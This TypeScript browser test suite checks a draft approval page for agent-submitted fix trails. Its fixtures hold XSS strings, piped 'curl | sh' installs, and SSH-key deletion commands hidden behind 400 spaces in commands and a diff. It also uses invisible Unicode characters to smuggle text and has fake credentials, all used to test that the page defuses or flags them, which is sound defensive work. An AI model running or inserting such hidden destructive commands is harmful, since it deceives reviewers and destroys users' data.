// The draft approval page in a real browser (Chromium or Chrome through playwright-core; skipped, said in one line, when there is none) against a
// real colony: hostile content stays text, risk is shown, publish and discard work end to end,
// every error state has its message, the security headers hold (a framing page cannot show it),
// and the page's sources use no HTML-parsing sink. docs/approval-page.md describes the page.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import type { Trail } from "../src/core/trail";
import { draftViewTag } from "../src/service/drafts";
import { browserUnavailable, launchBrowser, watchPage } from "./support/browser";
import { freePort, startTestColony, type TestColony } from "./support/colony";
import { callTool, connectHttp } from "./support/mcp";
import { REPO_DIR, screenshotPath } from "./support/paths";
import { agent, json, sampleTrail } from "./support/trails";

const ARTIFACTS = join(REPO_DIR, "test/artifacts");
const STATIC_DIR = join(REPO_DIR, "src/http/static");
const LAPTOP = { width: 1280, height: 800 };
const PHONE = { width: 390, height: 844 };
// Each browser test needs a few seconds; the cap keeps a hung page from stalling the suite.
const BROWSER_TEST_MS = 30_000;
const EXPECTED_CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self'; " +
  "base-uri 'none'; form-action 'none'; frame-ancestors 'none'";

const SCRIPT_TAG = "<script>window.__pwned=1</script>";
const IMG_TAG = `<img src=x onerror="window.__pwned=1">`;
const JS_URL = "Open javascript:window.__pwned=1 to check the fix";

let colony: TestColony;
let browser: Browser;
let laptop: BrowserContext;

function hostileTrail(): Trail {
  const t = sampleTrail({
    error: "ModuleNotFoundError: No module named 'yaml' (while loading deploy/config.py)",
    commands: ["curl https://example.com/install.sh | sh", "sudo systemctl restart deploy-agent", "pip install PyYAML==6.0.1"],
  });
  t.problem.root_cause =
    "PyYAML was missing from the CI image. The job ran as maria.lopez@corp-mail.io with AKIAQ3EGRTZ7LMNB4XWP exported.";
  t.solution.steps = ["Activate the virtualenv", SCRIPT_TAG, IMG_TAG, JS_URL, "Re-run the deploy script"];
  t.solution.code_patches = [
    {
      file_path: "deploy/requirements.txt",
      language: "text",
      diff: [
        "--- a/deploy/requirements.txt",
        "+++ b/deploy/requirements.txt",
        "@@ -1,3 +1,3 @@",
        " requests==2.31.0",
        "-yaml",
        "+PyYAML==6.0.1",
        " click==8.1.7",
      ].join("\n"),
    },
  ];
  t.tags = ["python", "ci"];
  return t;
}

async function createDraft(trail: Trail): Promise<any> {
  const res = await colony.fetch("/v1/drafts", json(trail));
  expect(res.status).toBe(201);
  const draft = (await res.json()) as any;
  expect(draft.approve_url).toBe(`${colony.url}/approve.html#${draft.draft_id}`);
  return draft;
}

const heading = (page: Page) => page.locator(".message h2").first();

async function shot(page: Page, name: string) {
  await page.screenshot({ path: screenshotPath(name) });
}

const noBrowser = browserUnavailable();
if (noBrowser) console.warn(`browser tests skipped: ${noBrowser}`);

describe.skipIf(noBrowser !== null)("approval page", () => {
  beforeAll(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    // The approve_url is built from COLONY_PUBLIC_URL, so the colony must know its own address.
    const port = await freePort();
    [colony, browser] = await Promise.all([
      startTestColony({ COLONY_PORT: String(port), COLONY_PUBLIC_URL: `http://127.0.0.1:${port}` }),
      launchBrowser(),
    ]);
    laptop = await browser.newContext({ viewport: LAPTOP });
  }, BROWSER_TEST_MS);

  afterAll(async () => {
    await browser?.close();
    await colony?.dispose();
  });

  test(
    "shows the exact redacted payload and its risk, keeps hostile text inert, publishes",
    async () => {
      const trail = hostileTrail();
      const draft = await createDraft(trail);
      expect(draft.risk.level).toBe("high");
      expect(draft.redactions).toEqual({ email: 1, aws_access_key: 1 });

      const page = await laptop.newPage();
      const problems = await watchPage(page);
      await page.goto(draft.approve_url);
      await page.locator("button.primary").waitFor();

      expect(await page.locator("h1").textContent()).toBe("Review this trail before it is published");
      expect(await page.locator(".error-line").textContent()).toBe(trail.problem.error);
      expect(await page.locator("ol.steps > li").allTextContents()).toEqual(trail.solution.steps!);
      // The hostile strings are text, not markup: no element was made from them.
      expect(await page.locator("img").count()).toBe(0);
      expect(await page.locator("a").count()).toBe(0);
      expect(await page.locator("script").count()).toBe(1);
      expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();

      const commands = page.locator("ol.commands > li");
      expect(await commands.locator("pre").allTextContents()).toEqual(trail.solution.commands!);
      expect(await commands.nth(0).getAttribute("class")).toContain("risk-high");
      expect(await commands.nth(0).textContent()).toContain("remote_script_execution");
      expect(await commands.nth(1).getAttribute("class")).toContain("risk-medium");
      expect(await commands.nth(1).textContent()).toContain("privilege_escalation");
      expect(await commands.nth(2).getAttribute("class")).toContain("risk-none");

      const banner = page.locator(".message-danger");
      expect(await banner.isVisible()).toBe(true);
      expect(await banner.textContent()).toContain("High risk");
      expect(await banner.textContent()).toContain("Command 1: remote_script_execution");

      expect(await page.locator(".patch figcaption").textContent()).toContain("deploy/requirements.txt");
      expect(await page.locator(".line-add").allTextContents()).toEqual(["+PyYAML==6.0.1"]);
      expect(await page.locator(".line-del").allTextContents()).toEqual(["-yaml"]);
      expect(await page.locator(".line-hunk").allTextContents()).toEqual(["@@ -1,3 +1,3 @@"]);

      const facts = (await page.locator(".facts").textContent())!;
      for (const s of ["linux", "x86_64", "python 3.11.7", "pyyaml 6.0.1", "test-model", "test-framework", "python", "ci"]) {
        expect(facts).toContain(s);
      }
      const summary = (await page.locator(".summary").textContent())!;
      expect(summary).toContain("2 values were redacted: 1 aws_access_key, 1 email");
      expect(summary).toContain(draft.fingerprint);
      expect(summary).toMatch(/Time left to decide: (29|30):\d\d/);
      expect(await page.locator(".redacted").allTextContents()).toEqual(["<redacted:email>", "<redacted:aws_access_key>"]);
      expect(await page.content()).not.toContain("maria.lopez");

      // The page is legible at both sizes: nothing makes the page scroll sideways.
      await shot(page, "approve-pending-1280x800.png");
      const phone = await browser.newContext({ viewport: PHONE, isMobile: true, hasTouch: true });
      const phonePage = await phone.newPage();
      const phoneProblems = await watchPage(phonePage);
      await phonePage.goto(draft.approve_url);
      await phonePage.locator("button.primary").waitFor();
      expect(await phonePage.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
      await shot(phonePage, "approve-pending-390x844.png");

      // Both buttons stay disabled while the approval is in flight (held back here until checked).
      let release = () => {};
      const held = new Promise<void>((resolve) => (release = resolve));
      await page.route("**/v1/drafts/*/publish", async (route) => {
        await held;
        await route.continue();
      });
      await page.locator("button.primary").click();
      await page.locator("button.primary:disabled").waitFor();
      expect(await page.locator("button.secondary").isDisabled()).toBe(true);
      expect(await page.locator(".action-status").textContent()).toBe("Publishing…");
      release();
      await page.locator(".message-success").waitFor({ timeout: 20_000 });
      await page.unroute("**/v1/drafts/*/publish");
      expect(await heading(page).textContent()).toBe("Published: the trail is searchable now");
      const drafted = (await (await colony.fetch(`/v1/drafts/${draft.draft_id}`)).json()) as any;
      expect(drafted).toMatchObject({ state: "published", trail_status: "indexed" });
      expect(await page.locator(".message").textContent()).toContain(drafted.trail_id);
      await shot(page, "approve-verdict-1280x800.png");

      // The phone still shows the pending draft; a reload follows the published trail.
      await phonePage.reload();
      await phonePage.locator(".message-success").waitFor({ timeout: 20_000 });
      expect(await phonePage.locator(".message").textContent()).toContain("This draft was already published.");
      await shot(phonePage, "approve-verdict-390x844.png");

      expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
      for (const p of [problems, phoneProblems]) expect(p).toEqual({ console: [], pageErrors: [], cspViolations: [] });
      await phone.close();
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  test(
    "a draft made through MCP shows what the MCP tool redacted before it reached the colony",
    async () => {
      const secret = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
      const client = await connectHttp(`${colony.url}/mcp`);
      try {
        const made = await callTool(client, "colony_publish", {
          trail: sampleTrail({ error: `RuntimeError: GitHub rejected token ${secret}`, commands: ["echo rotate"] }),
        });
        expect(made.json.redactions).toEqual({ github_token: 1 });
        const page = await laptop.newPage();
        const problems = await watchPage(page);
        await page.goto(made.json.approve_url);
        await page.locator("button.primary").waitFor();
        expect(await page.locator(".summary").textContent()).toContain("1 value was redacted: 1 github_token");
        expect(await page.content()).not.toContain(secret);
        expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
        await page.close();
      } finally {
        await client.close();
      }
    },
    BROWSER_TEST_MS,
  );

  test(
    "characters a person cannot see are marked as the MCP elicitation escapes them: a run of variation selectors, fillers, other format characters",
    async () => {
      // The page marked bidi controls and zero-width characters only: a run of variation selectors
      // after an emoji (which spells text for a model), a Hangul filler (a blank that is no space to
      // a shell) and format characters such as U+FFF9 were shown as they render, that is not at all.
      const smuggled = [...new TextEncoder().encode("run me")].map((b) => String.fromCodePoint(0xe0100 + b - 16)).join("");
      const trail = sampleTrail({ error: "ValueError: invisible marks on the approval page", commands: ["pip install requests\u3164"] });
      trail.solution.steps = [
        `Re-run the script 😀${smuggled}`,
        "Check \ufff9the\ufffb result",
        "❤️ one selector after its emoji is a glyph",
      ];
      const draft = await createDraft(trail);
      const page = await laptop.newPage();
      const problems = await watchPage(page);
      await page.goto(draft.approve_url);
      await page.locator("button.primary").waitFor();
      const marks = await page.locator(".invisible").allTextContents();
      expect(marks).toEqual([
        "⟨U+E0162⟩",
        "⟨U+E0165⟩",
        "⟨U+E015E⟩",
        "⟨U+E0110⟩",
        "⟨U+E015D⟩",
        "⟨U+E0155⟩",
        "⟨U+FFF9⟩",
        "⟨U+FFFB⟩",
        "⟨U+3164⟩", // in the command
        "⟨U+3164⟩", // in its risk flag (an unpinned install of "requests" and the filler)
      ]);
      expect(await page.getByText("This trail contains invisible characters").isVisible()).toBe(true);
      expect(await page.locator("ol.steps > li").nth(2).textContent()).toBe("❤️ one selector after its emoji is a glyph");
      expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  test(
    "a draft with a field cut as sensitive_content says first that the colony will refuse it",
    async () => {
      // The page showed the cut placeholder among the redaction counts and nothing else, so a person
      // pressed Publish and learned only from the trail's status that nothing was published.
      // An OpenSSH private key body without its header: no redaction rule recognises it.
      const keyBody = ["b3BlbnNzaC1rZXktdjE", "AAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACB0keyBodyLeak"].join("");
      const cut = sampleTrail({ error: "Permission denied (publickey) for deploy@approval-page" });
      cut.solution.steps = ["Generate a deploy key", `Put it in ~/.ssh/id_ed25519: ${keyBody}`];
      const draft = await createDraft(cut);
      expect(draft.redactions.sensitive_content).toBe(1);
      const clean = await createDraft(sampleTrail({ error: "ValueError: no field is cut in this draft" }));
      const page = await laptop.newPage();
      const problems = await watchPage(page);
      await page.goto(draft.approve_url);
      await page.locator("button.primary").waitFor();
      expect(await heading(page).textContent()).toBe("The colony will refuse this trail");
      expect(await page.locator(".message-danger p").first().textContent()).toContain(
        "One field held content that redaction cannot make safe",
      );
      await page.goto(clean.approve_url);
      await page.reload();
      await page.locator("button.primary").waitFor();
      expect(await page.getByText("The colony will refuse this trail").count()).toBe(0);
      expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  test(
    "a patch line that runs past the edge of the diff is wrapped: nothing of the payload sits outside the view",
    async () => {
      // The diff was shown unwrapped (white-space: pre) in a box that scrolls sideways: a line of
      // 400 blanks and then code read, on the page, as its harmless start, and the person approved
      // what they could not see without scrolling the box. Error lines and commands already wrapped.
      const hidden = `__import__("os").remove(__import__("os").path.expanduser("~/.ssh/id_ed25519"))`;
      const trail = sampleTrail({
        error: "ValueError: a patch line hidden off the edge of the approval page",
        commands: [`pip install PyYAML==6.0.1${" ".repeat(400)}; rm -f ~/.ssh/id_ed25519`],
      });
      trail.solution.code_patches = [
        {
          file_path: "deploy/config.py",
          language: "python",
          diff: [
            "--- a/deploy/config.py",
            "+++ b/deploy/config.py",
            "@@ -1,2 +1,2 @@",
            " import os",
            `+import yaml${" ".repeat(400)}; ${hidden}`,
          ].join("\n"),
        },
      ];
      const draft = await createDraft(trail);
      for (const viewport of [LAPTOP, PHONE]) {
        const context = await browser.newContext({ viewport });
        const page = await context.newPage();
        const problems = await watchPage(page);
        await page.goto(draft.approve_url);
        await page.locator("button.primary").waitFor();
        const diff = page.locator(".diff");
        expect(await diff.evaluate((pre) => pre.scrollWidth - pre.clientWidth)).toBeLessThanOrEqual(0);
        // Every character of the added line is inside the diff's visible box.
        const box = (await diff.boundingBox())!;
        const added = page.locator(".line-add");
        expect(await added.textContent()).toContain(hidden);
        const right = await added.evaluate((line) => {
          const range = document.createRange();
          range.selectNodeContents(line);
          return Math.max(...[...range.getClientRects()].filter((r) => r.width > 0).map((r) => r.right));
        });
        expect(right).toBeLessThanOrEqual(box.x + box.width + 1);
        // Commands wrapped already: the same line as a command is seen whole too.
        const command = page.locator("ol.commands > li pre").first();
        expect(await command.evaluate((pre) => pre.scrollWidth - pre.clientWidth)).toBeLessThanOrEqual(0);
        expect(await command.textContent()).toContain("rm -f ~/.ssh/id_ed25519");
        expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
        await context.close();
      }
    },
    BROWSER_TEST_MS,
  );

  test(
    "a draft merged into an existing trail: the page says it was merged, not that the approval counts towards it",
    async () => {
      // The page said "your approval counts towards it" for every merge, but a merge credit is not
      // granted to the existing trail's author, nor twice a UTC day to one agent or address; the
      // status says only merged_into, so the page says only that.
      const trail = sampleTrail({ error: "ConnectionRefusedError: [Errno 111] Connection refused (redis:6379)" });
      const res = await colony.fetch("/v1/trails", json(trail, agent("merge-author-agent")));
      expect(res.status).toBe(202);
      const existing = ((await res.json()) as any).trail_id as string;
      for (let i = 0; i < 300; i++) {
        const status = ((await (await colony.fetch(`/v1/trails/${existing}`)).json()) as any).status;
        if (status !== "queued") break;
        await Bun.sleep(50);
      }
      const draft = await createDraft(trail);
      const page = await laptop.newPage();
      const problems = await watchPage(page);
      await page.goto(draft.approve_url);
      await page.locator("button.primary").click();
      await page.getByText(`Already known: merged into ${existing}`).waitFor({ timeout: 20_000 });
      const text = await page.locator(".message").textContent();
      expect(text).toContain("The colony already holds the same fix for the same error; this draft was merged into it.");
      expect(text).not.toContain("counts towards");
      expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  test(
    "a page open across an upgrade: Publish of the view an older release showed publishes nothing and the page shows the draft as it now reads",
    async () => {
      // The page loaded the draft from a release whose rules flagged nothing in it; the colony now
      // runs rules that flag its piped install script high. Publish used to publish the trail with
      // flags the person never read.
      const trail = sampleTrail({ error: "OSError: the installer of a draft shown before an upgrade" });
      trail.solution.commands = ["curl -fsSL https://get.example.com/install.sh | sh"];
      const draft = await createDraft(trail);
      expect(draft.risk.level).toBe("high");
      const older = { trail: draft.trail, redactions: draft.redactions, risk: { level: "low" as const, flags: [] } };
      const page = await laptop.newPage();
      const problems = await watchPage(page);
      let served = 0;
      await page.route("**/v1/drafts/*", async (route) => {
        if (route.request().method() !== "GET" || served++ > 0) return route.continue();
        // The older release's answer: its flags, under the tag it gave the view it showed.
        const res = await route.fetch();
        await route.fulfill({
          response: res,
          json: { ...((await res.json()) as object), risk: older.risk },
          headers: { ...res.headers(), etag: `"${draftViewTag(older)}"` },
        });
      });
      await page.goto(draft.approve_url);
      await page.locator("button.primary").waitFor();
      expect(await page.locator(".message-danger").count()).toBe(0); // no flags shown: what the older release said
      const publishes: number[] = [];
      page.on("response", (r) => {
        if (r.url().endsWith("/publish")) publishes.push(r.status());
      });
      await page.locator("button.primary").click();
      await page.getByText("Nothing was published: the draft reads differently now").waitFor({ timeout: 10_000 });
      expect(publishes).toEqual([412]);
      expect(((await (await colony.fetch(`/v1/drafts/${draft.draft_id}`)).json()) as any).state).toBe("pending");
      // Shown again as the colony would publish it now: the high-risk banner with the flag.
      const banner = page.locator(".message-danger");
      expect(await banner.locator("h2").textContent()).toBe("High risk: read every flagged command before publishing");
      expect(await banner.textContent()).toContain("remote_script_execution");
      await page.locator("button.primary").click();
      await page.getByText("Published: the trail is searchable now").waitFor({ timeout: 20_000 });
      expect(publishes).toEqual([412, 202]);
      const state = (await (await colony.fetch(`/v1/drafts/${draft.draft_id}`)).json()) as any;
      const published = (await (await colony.fetch(`/v1/trails/${state.trail_id}`)).json()) as any;
      expect(published.trail).toEqual(draft.trail);
      expect(published.risk.level).toBe("high");
      // Chromium reports the refused request itself; nothing else went wrong.
      expect(problems.console.filter((m) => !m.includes("status of 412"))).toEqual([]);
      expect(problems.console.length).toBeLessThanOrEqual(1);
      expect({ pageErrors: problems.pageErrors, csp: problems.cspViolations }).toEqual({ pageErrors: [], csp: [] });
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  // If-Match compares strongly (RFC 9110 §13.1.1), and a proxy or CDN that compresses answers
  // weakens the colony's ETag (`W/"…"`): the page sent the weak tag back, was refused 412, showed
  // the draft again under the same weak tag, and could never publish.
  test(
    "behind a proxy that weakens the ETag, Publish publishes the view shown",
    async () => {
      const draft = await createDraft(sampleTrail({ error: "OSError: a draft read through a compressing proxy" }));
      const page = await laptop.newPage();
      const problems = await watchPage(page);
      await page.route("**/v1/drafts/*", async (route) => {
        if (route.request().method() !== "GET") return route.continue();
        const res = await route.fetch();
        await route.fulfill({ response: res, headers: { ...res.headers(), etag: `W/${res.headers().etag}` } });
      });
      const publishes: number[] = [];
      page.on("response", (r) => {
        if (r.url().endsWith("/publish")) publishes.push(r.status());
      });
      await page.goto(draft.approve_url);
      await page.locator("button.primary").click();
      await page.getByText("Published: the trail is searchable now").waitFor({ timeout: 20_000 });
      expect(publishes).toEqual([202]);
      expect({ console: problems.console, pageErrors: problems.pageErrors, csp: problems.cspViolations }).toEqual({
        console: [],
        pageErrors: [],
        csp: [],
      });
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  test(
    "discard: the page says nothing was published, also after a reload",
    async () => {
      const draft = await createDraft(sampleTrail({ error: "TypeError: Cannot read properties of undefined (reading 'map')" }));
      const page = await laptop.newPage();
      const problems = await watchPage(page);
      await page.goto(draft.approve_url);
      await page.locator("button.secondary").click();
      await page.getByText("Discarded: nothing was published").waitFor();
      await page.reload();
      await page.getByText("Discarded: nothing was published").waitFor();
      expect(await page.locator("button.primary").count()).toBe(0);
      expect(((await (await colony.fetch(`/v1/drafts/${draft.draft_id}`)).json()) as any).state).toBe("discarded");
      expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  test(
    "no id, unknown id, unreachable colony, published, discarded and expired drafts each have their message",
    async () => {
      const page = await laptop.newPage();

      await page.goto(`${colony.url}/approve.html`);
      expect(await heading(page).textContent()).toBe("This link has no draft in it");

      const unknown = Buffer.from(crypto.getRandomValues(new Uint8Array(24))).toString("base64url");
      await page.goto(`${colony.url}/approve.html#${unknown}`);
      await page.getByText("This draft is unknown or has expired").waitFor();

      // Network failure, then recovery through the retry button.
      const draft = await createDraft(sampleTrail({ error: "OSError: [Errno 28] No space left on device" }));
      await page.route("**/v1/drafts/**", (route) => route.abort("connectionrefused"));
      await page.goto(draft.approve_url);
      await page.getByText("The colony could not be reached").waitFor();
      await page.unroute("**/v1/drafts/**");
      await page.getByRole("button", { name: "Try again" }).click();
      await page.locator("button.primary").waitFor();

      // Published behind the page's back: Publish answers 409 published and the page follows the trail.
      const res = await colony.fetch(`/v1/drafts/${draft.draft_id}/publish`, { method: "POST" });
      expect(res.status).toBe(202);
      await page.locator("button.primary").click();
      await page.locator(".message-success").waitFor({ timeout: 20_000 });
      expect(await heading(page).textContent()).toBe("Published: the trail is searchable now");

      // Opening the link of a published draft shows its trail's verdict.
      const fresh = await laptop.newPage();
      await fresh.goto(draft.approve_url);
      await fresh.locator(".message-success").waitFor({ timeout: 20_000 });
      expect(await fresh.locator(".message").textContent()).toContain("This draft was already published.");

      // Discarded behind the page's back: Discard answers 409 discarded.
      const other = await createDraft(sampleTrail({ error: "PermissionError: [Errno 13] Permission denied: '/var/run/app.pid'" }));
      await fresh.goto(other.approve_url);
      await fresh.locator("button.secondary").waitFor();
      expect((await colony.fetch(`/v1/drafts/${other.draft_id}/discard`, { method: "POST" })).status).toBe(200);
      await fresh.locator("button.primary").click();
      await fresh.getByText("Discarded: nothing was published").waitFor();

      // The countdown: the colony's answer is passed through with one second left.
      const expiring = await createDraft(sampleTrail({ error: "KeyError: 'DATABASE_URL'" }));
      await fresh.route("**/v1/drafts/*", async (route) => {
        const res = await route.fetch();
        await route.fulfill({ response: res, json: { ...((await res.json()) as object), expires_in: 1 } });
      });
      await fresh.goto(expiring.approve_url);
      await fresh.getByText("This draft has expired").waitFor({ timeout: 5_000 });
      expect(await fresh.locator("button.primary").isDisabled()).toBe(true);
      expect(await fresh.locator("button.secondary").isDisabled()).toBe(true);
      expect(await fresh.locator(".time-left").textContent()).toBe("0:00");
      await fresh.close();
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  test(
    "a page asked for with a trailing slash is sent to its own path, fragment kept, and works",
    async () => {
      // The router served /approve.html/ and /console/ as the page, whose relative links then
      // named /approve.html/approve.js and /approve.html/v1/drafts/…: a blank page.
      const draft = await createDraft(sampleTrail({ error: "ValueError: the approval link with a trailing slash" }));
      const page = await laptop.newPage();
      const problems = await watchPage(page);
      await page.goto(`${colony.url}/approve.html/#${draft.draft_id}`);
      await page.locator("button.primary").waitFor();
      expect(page.url()).toBe(draft.approve_url);
      for (const [path, ready] of [
        ["/console/", "#app"],
        ["/docs/", "#routes"],
      ] as const) {
        await page.goto(`${colony.url}${path}`);
        await page.locator(ready).waitFor();
        expect(page.url()).toBe(`${colony.url}${path.slice(0, -1)}`);
      }
      expect(problems).toEqual({ console: [], pageErrors: [], cspViolations: [] });
      const res = await colony.fetch("/console/", { redirect: "manual" });
      expect([res.status, res.headers.get("location")]).toEqual([308, "../console"]);
      expect(res.headers.get("RateLimit-Limit")).not.toBeNull();
      await page.close();
    },
    BROWSER_TEST_MS,
  );

  test(
    "security headers, and a page on another origin cannot frame it",
    async () => {
      for (const [path, type] of [
        ["/approve.html", "text/html; charset=utf-8"],
        ["/approve.js", "text/javascript; charset=utf-8"],
        ["/approve.css", "text/css; charset=utf-8"],
        ["/base.css", "text/css; charset=utf-8"],
        ["/dom.js", "text/javascript; charset=utf-8"],
        ["/approve-icon.svg", "image/svg+xml"],
      ] as const) {
        const res = await colony.fetch(path);
        expect(res.status).toBe(200);
        expect(res.headers.get("content-type")).toBe(type);
        expect(res.headers.get("content-security-policy")).toBe(EXPECTED_CSP);
        expect(res.headers.get("x-frame-options")).toBe("DENY");
        expect(res.headers.get("referrer-policy")).toBe("no-referrer");
        expect(res.headers.get("x-content-type-options")).toBe("nosniff");
        const cache = { "/approve.html": "no-store", "/approve-icon.svg": "public, max-age=86400" }[path as string] ?? "no-cache";
        expect(res.headers.get("cache-control")).toBe(cache);
        expect((await res.text()).length).toBeGreaterThan(100);
      }

      // Another loopback origin frames the page, beside a control frame of its own origin: the control
      // shows, so a blank approval frame means the browser refused it, not that frames never render.
      const framer = Bun.serve({
        hostname: "127.0.0.1",
        port: 0,
        fetch(req) {
          const path = new URL(req.url).pathname;
          const body =
            path === "/control.html"
              ? "<!doctype html><h1>control frame</h1>"
              : `<!doctype html><iframe id="control" src="/control.html"></iframe><iframe id="victim" src="${colony.url}/approve.html#${"A".repeat(32)}"></iframe>`;
          return new Response(body, { headers: { "content-type": "text/html; charset=utf-8" } });
        },
      });
      try {
        const page = await laptop.newPage();
        const blocked: string[] = [];
        page.on("console", (m) => {
          if (m.text().includes("frame-ancestors")) blocked.push(m.text());
        });
        await page.goto(`http://127.0.0.1:${framer.port}/`, { waitUntil: "load" });
        const control = page.frames().find((f) => f.url().endsWith("/control.html"))!;
        expect(await control.locator("h1").textContent()).toBe("control frame");
        const victimHandle = await page.locator("#victim").elementHandle();
        const victim = await victimHandle!.contentFrame();
        // The blocked frame holds Chromium's error page, never the approval page.
        const text = victim ? await victim.evaluate(() => document.body?.innerText ?? "").catch(() => "") : "";
        expect(text).not.toContain("Trail approval");
        expect(
          victim
            ? await victim
                .locator("#app")
                .count()
                .catch(() => 0)
            : 0,
        ).toBe(0);
        expect(blocked.length).toBeGreaterThan(0);
        await page.close();
      } finally {
        await framer.stop(true);
      }
    },
    BROWSER_TEST_MS,
  );
});

describe("approval page sources", () => {
  const files = ["approve.html", "approve.js", "dom.js", "base.css", "approve.css", "approve-icon.svg"].map(
    (f) => [f, readFileSync(join(STATIC_DIR, f), "utf8")] as const,
  );

  test("use no HTML-parsing sink, no eval, no inline handlers, styles or scripts", () => {
    const forbidden: [string, RegExp][] = [
      ["innerHTML", /innerHTML/],
      ["outerHTML", /outerHTML/],
      ["insertAdjacentHTML", /insertAdjacentHTML/],
      ["document.write", /document\.write/],
      ["eval(", /\beval\s*\(/],
      ["new Function", /new\s+Function\b/],
      ["setTimeout with a string", /setTimeout\(\s*["'`]/],
      ["on…= attribute", /\son[a-z]+\s*=/i],
      ["style= attribute", /\bstyle\s*=/i],
      ["<style> block", /<style\b/i],
      ["remote resource", /(?:src|href)\s*=\s*["']?(?:https?:)?\/\//i],
      ["remote CSS import", /@import|url\(\s*["']?(?:https?:)?\/\//i],
    ];
    for (const [name, text] of files) {
      for (const [what, re] of forbidden) {
        if (re.test(text)) throw new Error(`${name} contains ${what}`);
      }
    }
    expect(files.find(([n]) => n === "approve-icon.svg")![1]).not.toMatch(/<script|<foreignObject|href=/i);
    const html = files.find(([n]) => n === "approve.html")![1];
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script\s*>/gi)];
    expect(scripts.length).toBe(1);
    for (const [, attrs, body] of scripts) {
      expect(attrs).toMatch(/\ssrc="approve\.js"/);
      expect(body!.trim()).toBe("");
    }
  });
});
